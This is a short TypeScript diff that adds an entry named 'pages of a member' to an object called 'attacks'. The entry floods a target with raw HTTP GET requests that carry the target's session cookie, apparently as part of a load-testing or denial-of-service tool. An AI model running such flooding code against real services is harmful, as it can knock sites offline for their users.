@@ -92,6 +92,13 @@ export const attacks = {
       )
     }
   },
+  'pages of a member': (target: Target) => {
+    flood(
+      target,
+      64,
+      () => `GET / HTTP/1.1\r\nhost: ${host(target)}\r\naccept: text/html\r\ncookie: ${target.cookie}\r\n\r\n`,
+    )
+  },
   'charts of a member': (target: Target) => {
     const to = new Date()
     const from = new Date(to.getTime() - 300 * 86_400_000)
